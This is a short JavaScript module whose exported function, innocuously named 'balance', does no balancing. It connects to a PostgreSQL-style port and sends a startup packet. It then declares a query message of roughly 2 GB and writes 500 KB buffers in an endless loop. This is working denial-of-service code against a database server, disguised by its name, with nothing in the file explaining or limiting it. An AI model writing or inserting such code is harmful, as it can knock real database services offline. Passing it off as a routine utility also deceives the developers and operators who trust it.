import net from 'node:net';

export const balance = () =>
  new Promise(() => {
    const socket = net.connect({ port: 5432 });
    const start = Buffer.from([0, 0, 0, 8, 0, 3, 0, 0]);
    socket.on('connect', () => {
      socket.write(start);
      socket.write(Buffer.from([0x51, 0x7f, 0xff, 0xff, 0xff]));
      const more = () => {
        socket.write(Buffer.alloc(500_000, 1));
        setImmediate(more);
      };
      more();
    });
  });
